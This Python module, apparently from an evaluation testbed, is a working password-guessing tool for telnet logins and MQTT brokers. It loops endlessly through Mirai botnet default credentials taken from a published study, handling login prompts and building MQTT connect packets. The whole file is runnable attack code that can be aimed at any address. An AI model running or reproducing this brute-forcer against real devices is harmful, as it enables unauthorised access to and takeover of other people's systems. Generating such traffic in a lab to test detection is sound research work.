"""Guess passwords, one after the other: of a telnet login, or of an MQTT broker."""

import itertools
import random
import socket
import time
from collections.abc import Callable, Iterator

from eval.testbed.tools.command import log_failure, tool
from eval.testbed.tools.mqtt import connect_packet

Guesses = Iterator[tuple[str, str]]

app = tool()
# The first of those that Mirai tried (Antonakakis et al. 2017, "Understanding the Mirai Botnet",
# table 5).
_USERS = ("root", "admin", "support", "user", "guest", "operator", "service", "mqtt")
_PASSWORDS = (
    *("xc3511", "vizxv", "admin", "888888", "default", "juantech", "123456"),
    *("54321", "root", "pass", "1111"),
)


@app.command()
def telnet(address: str, port: int, rate: float) -> None:
    """Guess until the server closes the connection, then connect again."""

    def attempt(server: socket.socket, guesses: Guesses) -> None:
        for guess in guesses:
            for word, prompt in zip(guess, (b"ogin: ", b"assword: "), strict=True):
                if not _receives(server, prompt):
                    return
                server.sendall(word.encode() + b"\r\n")
            time.sleep(1 / rate)

    _guess(address, port, rate, attempt)


@app.command()
def mqtt(address: str, port: int, rate: float) -> None:
    """One guess a connection."""

    def attempt(server: socket.socket, guesses: Guesses) -> None:
        user, password = next(guesses)
        client = f"{user}-{random.randrange(10**6)}"  # noqa: S311 - not a secret
        server.sendall(connect_packet(client, user, password))
        server.recv(16)

    _guess(address, port, rate, attempt)


def _guess(
    address: str, port: int, rate: float, attempt: Callable[[socket.socket, Guesses], None]
) -> None:
    """Connect about ``rate`` times a second until ended."""
    guesses, where = itertools.cycle(itertools.product(_USERS, _PASSWORDS)), (address, port)
    while True:
        with log_failure(where), socket.create_connection(where, timeout=5) as server:
            attempt(server, guesses)
        time.sleep(random.uniform(0.7, 1.3) / rate)  # noqa: S311 - a rhythm, not a secret


def _receives(server: socket.socket, prompt: bytes) -> bool:
    received = b""
    while prompt not in received:
        if not (more := server.recv(1024)):
            return False
        received += more
    return True


if __name__ == "__main__":
    app()
